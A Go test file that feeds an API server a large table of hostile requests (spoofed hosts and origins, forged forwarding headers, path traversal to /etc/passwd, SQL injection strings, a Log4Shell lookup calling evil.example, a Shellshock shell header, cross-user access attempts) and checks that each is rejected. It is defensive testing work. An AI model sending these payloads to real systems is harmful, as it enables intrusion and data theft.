package app_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
)

func hostileRequests(s *system, bob string, v victims) []hostile {
	return slices.Concat(
		hostileHosts(), hostileOrigins(), hostileForwarding(), hostileHeaders(), hostilePaths(), hostileParameters(v), strangersRequests(v),
		hostileTokens(s), hostileKeys(bob), hostileAccounts(v), hostileJSON(), hostileBodies(), hostileForms(), hostileBatches(),
	)
}

func hostileHosts() (rows []hostile) {
	for _, host := range []string{
		"", "evil.example", "api.example.com.evil.example", "evilapi.example.com", "example.com", "speak.example", "evilspeak.example",
		"api.example.com,evil.example", "localhost", "127.0.0.2", "[::1]",
		"169.254.169.254", "0", "*", "*.evil.example", ".speak.example.evil", "api.example.com..", "xn--pi-7ka.example.com", "api%2eexample.com",
	} {
		rows = append(rows, hostile{name: "host " + host, status: 400, route: "GET /health", headers: []string{"Host: " + host}})
	}
	for _, host := range []string{"api.example.com/x", "api.example.com@evil.example", "api.example.com#evil.example", "api.example.com\\@evil.example", "a b", "api.example.com\x00", "<script>", "api.example.com\"", "api.éxample.com"} {
		rows = append(rows, hostile{name: fmt.Sprintf("host %q", host), status: 400, route: "GET /health", headers: []string{"Host: " + host}, bare: true})
	}
	for _, name := range []string{"X-Forwarded-Host", "X-Host", "X-Original-Host", "X-HTTP-Host-Override", "Forwarded: host"} {
		line := name + ": api.example.com"
		if strings.HasPrefix(name, "Forwarded") {
			line = "Forwarded: host=api.example.com"
		}
		rows = append(rows, hostile{name: "our host only in " + name, status: 400, route: "GET /health", headers: []string{"Host: evil.example", line}})
	}
	return append(rows,
		hostile{name: "another host in the target", status: 400, route: "GET http://evil.example/v1/me"},
		hostile{name: "a file as the target", status: 404, route: "GET file:///etc/passwd"},
		hostile{name: "a host for the rebinding of names", status: 400, route: "GET /v1/me", headers: []string{"Host: 7f000001.rbndr.us"}},
	)
}

func hostileOrigins() (rows []hostile) {
	for _, origin := range []string{
		"null", "*", "https://evil.example", "http://app.example.com", "https://app.example.com.evil.example", "https://evilapp.example.com",
		"https://app.example.com:444", "https://app.example.com/", "https://app.example.com@evil.example", "HTTPS://APP.EXAMPLE.COM", "https://app.example.com ,x",
		"https://app.example.com%60.evil.example", "file://", "http://localhost:3000", "http://localhost:*", "chrome-extension://abc",
	} {
		rows = append(rows,
			hostile{name: "origin " + origin, status: 200, route: "GET /v1/me", headers: []string{"Origin: " + origin}},
			hostile{name: "preflight from " + origin, status: 204, route: "OPTIONS /v1/me", headers: []string{"nobody", "Origin: " + origin, "Access-Control-Request-Method: DELETE"}},
		)
	}
	return rows
}

// hostileForwarding pretends to come from elsewhere, which nobody here believes.
func hostileForwarding() (rows []hostile) {
	for i, line := range []string{
		"X-Forwarded-For: 127.0.0.1", "X-Forwarded-For: ::1", "X-Forwarded-For: ' OR 1=1 --", "X-Forwarded-For: " + strings.Repeat("10.0.0.1, ", 1000),
		"X-Forwarded-For: \xff\xfe", "X-Real-IP: 127.0.0.1", "True-Client-IP: 127.0.0.1", "CF-Connecting-IP: 127.0.0.1", "Forwarded: for=127.0.0.1;proto=https",
		"X-Forwarded-Proto: https", "X-Forwarded-Prefix: /v1/ops", "X-Forwarded-User: operator", "X-Forwarded-Scheme: javascript",
	} {
		rows = append(rows, hostile{name: fmt.Sprintf("forwarded %d, %.20s", i, line), status: 403, route: "GET /v1/ops/queue", headers: []string{line}})
	}
	return rows
}

func hostileHeaders() []hostile {
	return []hostile{
		{name: "another method in a header", status: 405, route: "PUT /v1/me", headers: []string{"X-HTTP-Method-Override: GET"}},
		{name: "DELETE in a header", status: 200, route: "GET /v1/me", headers: []string{"X-HTTP-Method-Override: DELETE", "X-Method-Override: DELETE"}},
		{name: "another path in a header", status: 200, route: "GET /v1/me", headers: []string{"X-Original-URL: /v1/ops/queue", "X-Rewrite-URL: /v1/ops/queue"}},
		{name: "a request id with a line break in it", status: 400, route: "GET /v1/me", headers: []string{"X-Request-ID: a\rb"}, bare: true},
		{name: "a request id that is a page", status: 200, route: "GET /v1/me", headers: []string{"X-Request-ID: <script>alert(1)</script>"}},
		{name: "a request id of 10 kB", status: 200, route: "GET /v1/me", headers: []string{"X-Request-ID: " + strings.Repeat("a", 10_000)}},
		{name: "a lookup in a header", status: 200, route: "GET /v1/me", headers: []string{"User-Agent: ${jndi:ldap://evil.example/a}"}},
		{name: "a shell in a header", status: 200, route: "GET /v1/me", headers: []string{"User-Agent: () { :; }; /bin/sh"}},
		{name: "a template in a header", status: 200, route: "GET /v1/me", headers: []string{"Referer: {{7*7}}"}},
		{name: "500 headers", status: 200, route: "GET /v1/me", headers: slices.Repeat([]string{"X-Flood: a"}, 500)},
		{name: "10,000 headers", status: 431, route: "GET /v1/me", headers: slices.Repeat([]string{"X-Flood: a"}, 10_000), bare: true},
		{name: "a header of 64 kB", status: 431, route: "GET /v1/me", headers: []string{"X-Flood: " + strings.Repeat("a", 64<<10)}, bare: true},
		{name: "1,000 cookies", status: 200, route: "GET /v1/me", headers: []string{"Cookie: " + strings.Repeat("a=b; ", 1000)}},
		{name: "ranges that overlap", status: 200, route: "GET /v1/me", headers: []string{"Range: bytes=" + strings.Repeat("0-,", 1000)}},
		{name: "a broken Accept", status: 200, route: "GET /v1/me", headers: []string{"Accept: ;;;,,,/////"}},
		{name: "100 codings", status: 200, route: "GET /v1/analyses", headers: []string{"Accept-Encoding: " + strings.Repeat("gzip;q=0.1,", 100)}},
		{name: "a weight that is no number", status: 200, route: "GET /v1/analyses", headers: []string{"Accept-Encoding: gzip;q=1e999"}},
		{name: "an ETag that is none", status: 200, route: "GET /v1/me", headers: []string{"If-None-Match: \"\"\"\"\"W/W/"}},
		{name: "a Prefer that is none", status: 404, route: "GET /v1/analyses/01934b1c-6f0e-7c3a-9d2e-5b8f0a1c2d3e", headers: []string{"Prefer: wait=-1, wait=99999999999999999999"}},
		{name: "a Last-Event-ID that is none", status: 404, route: "GET /v1/analyses/01934b1c-6f0e-7c3a-9d2e-5b8f0a1c2d3e/events", headers: []string{"Last-Event-ID: ' OR ''='"}},
		{name: "an upgrade to nothing", status: 200, route: "GET /v1/me", headers: []string{"Connection: Upgrade", "Upgrade: websocket"}},
		{name: "a date before time", status: 200, route: "GET /v1/me", headers: []string{"If-Modified-Since: Thu, 01 Jan -999 00:00:00 GMT"}},
		{name: "an expectation that nobody meets", status: 417, route: "GET /v1/me", headers: []string{"Expect: 200-ok"}, bare: true},
		{name: "a key with a space", status: 400, route: "POST /v1/analyses", headers: []string{"Idempotency-Key: a b"}, body: `{"text":"a"}`},
		{name: "a key with a control character", status: 400, route: "POST /v1/analyses", headers: []string{"Idempotency-Key: a\x7f"}, body: `{"text":"a"}`, bare: true},
		{name: "a key of 10 kB", status: 400, route: "POST /v1/analyses", headers: []string{"Idempotency-Key: " + strings.Repeat("k", 10_000)}, body: `{"text":"a"}`},
		{name: "two keys", status: 400, route: "POST /v1/analyses", headers: []string{"Idempotency-Key: a", "Idempotency-Key: b"}, body: `{"text":"a"}`},
	}
}

func hostilePaths() (rows []hostile) {
	for _, path := range []string{
		"//", "/index.html", "/assets", "/assets/", "/assets/../v1/me", "/assets/..%2fembed.go", "/assets/index.html", "/v1", "/v1/", "/v1//me", "//v1/me", "/v1/me/", "/v1/./me", "/v1/../v1/me", "/v1/analyses/../me", "/v1/me/..;/", "/v1;a=b/me", "/V1/me", "/v1/ME",
		"/v1/%6de/%2e%2e", "/v1/%2e%2e/%2e%2e/etc/passwd", "/../../etc/passwd", "/v1/..%2f..%2fetc%2fpasswd", "/v1/..%5c..%5cwindows",
		"/%2e%2e%2f", "/v1/me%00", "/v1/me%0d%0aX-Injected:%20yes", "/v1/me%ff", "/v1/me.json", "/v1/me%20", "/.git/config", "/.env", "/admin",
		"/docs", "/docs/", "/redoc", "/openapi.yaml", "/openapi.json", "/swagger.json", "/metrics", "/livez", "/readyz",
		"/debug/pprof", "/debug/pprof/", "/debug/pprof/heap", "/debug/pprof/goroutine?debug=2", "/debug/vars", "/debug/requests", "/actuator/env", "/server-status",
		"/v1/ops", "/v1/ops/queue/../../me", "/v1/ops%2fqueue", "/v1/internal", "/v2/me", "/" + strings.Repeat("a/", 5000), "/" + strings.Repeat("%2e", 3000),
	} {
		rows = append(rows, hostile{name: fmt.Sprintf("path %.60s", path), status: 404, route: "GET " + path})
	}
	for _, method := range []string{"PUT", "PATCH", "DELETE", "POST", "TRACE", "TRACK", "DEBUG", "PROPFIND", "get", "XYZZY"} {
		rows = append(rows, hostile{name: "method " + method, status: 405, route: method + " /health"})
	}
	return append(rows,
		hostile{name: "HEAD of a stream", status: 405, route: "HEAD /v1/events"},
		hostile{name: "a tunnel", status: 404, route: "CONNECT api.example.com:443"},
		hostile{name: "options of everything", status: 404, route: "OPTIONS *"},
		hostile{name: "options of one path", status: 204, route: "OPTIONS /health"},
	)
}

func hostileParameters(v victims) (rows []hostile) {
	for i, p := range []struct {
		query  string
		status int
	}{
		{"limit=-1", 422}, {"limit=0", 422}, {"limit=999999", 422}, {"limit=1e3", 400}, {"limit=0x10", 400}, {"limit=99999999999999999999", 400}, {"limit=", 400},
		{"limit=1&limit=2", 400}, {"limit=%00", 400}, {"limit=1;drop", 200}, {"limit[]=1", 400}, {"status=' OR 1=1--", 422}, {"status=queued%00", 422},
		{"status=queued,failed", 422}, {"kind=../../x", 422}, {"lane=%ff%fe", 422}, {"label=%00", 422}, {"label=%ff", 422}, {"label=' OR ''='", 200},
		{"label=" + strings.Repeat("a", 8000), 422}, {"batch=1", 400}, {"batch=' OR 1=1--", 400}, {"created_after=now()", 400}, {"created_after=-infinity", 400},
		{"created_before=99999-01-01T00:00:00Z", 400}, {"created_after=0000-00-00T00:00:00Z", 400}, {"cursor=", 400}, {"cursor=AAAA", 400},
		{"cursor=" + strings.Repeat("A", 8000), 400}, {"cursor=%00", 400}, {"cursor=../../x", 400}, {"cursor=" + v.cursor + "x", 400},
		{"cursor=" + v.cursor + "&status=failed", 400}, {"owner=" + v.analysis, 400}, {"user_id=" + v.key, 400}, {"__proto__[x]=1", 400}, {strings.Repeat("a=b&", 5000), 400},
		{"%zz=1", 200}, {"sort=id;DROP TABLE analyses", 200},
	} {
		query := strings.NewReplacer(" ", "%20", "'", "%27").Replace(p.query)
		rows = append(rows, hostile{name: fmt.Sprintf("list %d with %.40s", i, p.query), status: p.status, route: "GET /v1/analyses?" + query})
	}
	for _, id := range []string{
		"0", "-1", "1 OR 1=1", "'", "..", "%2e%2e", "null", "undefined", "NaN", "{id}", "$ne", "00000000-0000-0000-0000", "01934b1c6f0e7c3a9d2e5b8f0a1c2d3e",
		"{01934b1c-6f0e-7c3a-9d2e-5b8f0a1c2d3e}", "urn:uuid:01934b1c-6f0e-7c3a-9d2e-5b8f0a1c2d3e", "01934b1c-6f0e-7c3a-9d2e-5b8f0a1c2d3e%00",
		"%F0%9F%92%A9", strings.Repeat("9", 9000),
	} {
		rows = append(rows, hostile{name: fmt.Sprintf("id %.40s", id), status: 400, route: "GET /v1/analyses/" + strings.NewReplacer("%", "%", " ", "%20").Replace(id)})
	}
	return rows
}

// strangersRequests are Bob's for what is Ada's, on every route that takes an id.
func strangersRequests(v victims) (rows []hostile) {
	for _, route := range []string{
		"GET /v1/analyses/{id}", "HEAD /v1/analyses/{id}", "GET /v1/analyses/{id}?wait=25", "DELETE /v1/analyses/{id}", "GET /v1/analyses/{id}/events",
		"POST /v1/analyses/{id}/cancel", "POST /v1/analyses/{id}/retry", "DELETE /v1/api-keys/{key}", "GET /v1/analyses/{batch}", "DELETE /v1/analyses/{batch}",
		"GET /v1/analyses/{key}", "DELETE /v1/api-keys/{id}",
	} {
		target := strings.NewReplacer("{id}", v.analysis, "{key}", v.key, "{batch}", v.batch).Replace(route)
		rows = append(rows, hostile{name: "of another, " + route, status: 404, route: target},
			hostile{name: "of another in capitals, " + route, status: 404, route: strings.ReplaceAll(target, v.analysis, strings.ToUpper(v.analysis))})
	}
	rows = append(rows,
		hostile{name: "the batch of another", status: 200, route: "GET /v1/analyses?batch=" + v.batch},
		hostile{name: "the label of another", status: 200, route: "GET /v1/analyses?label=" + marker},
		hostile{name: "the cursor of another", status: 400, route: "GET /v1/analyses?limit=200&cursor=" + url.QueryEscape(v.cursor)},
		hostile{name: "all that there is", status: 200, route: "GET /v1/analyses?limit=200"},
		hostile{name: "the keys of all", status: 200, route: "GET /v1/api-keys"},
		hostile{name: "a replay of another's", status: 403, route: "POST /v1/ops/dead-letters/replay", body: `{"ids":["` + v.analysis + `"]}`},
		hostile{name: "a replay of all", status: 403, route: "POST /v1/ops/dead-letters/replay", body: `{"all":true}`},
		hostile{name: "a pause", status: 403, route: "POST /v1/ops/lanes/interactive/pause"},
		hostile{name: "a resumption of no lane", status: 403, route: "POST /v1/ops/lanes/..%2f..%2fx/resume"},
		hostile{name: "what failed for all", status: 403, route: "GET /v1/ops/dead-letters"},
		hostile{name: "an owner in a submission", status: 422, route: "POST /v1/analyses", body: `{"text":"a","owner_id":"` + v.key + `"}`},
		hostile{name: "an id in a submission", status: 422, route: "POST /v1/analyses", body: `{"text":"a","id":"` + v.analysis + `"}`},
		hostile{name: "a status in a submission", status: 422, route: "POST /v1/analyses", body: `{"text":"a","status":"succeeded","result":{}}`},
		hostile{name: "more scopes than one has", status: 403, route: "POST /v1/api-keys", body: `{"name":"k","scopes":["ops"]}`},
		hostile{name: "all scopes", status: 422, route: "POST /v1/api-keys", body: `{"name":"k","scopes":["*"]}`},
	)
	return rows
}
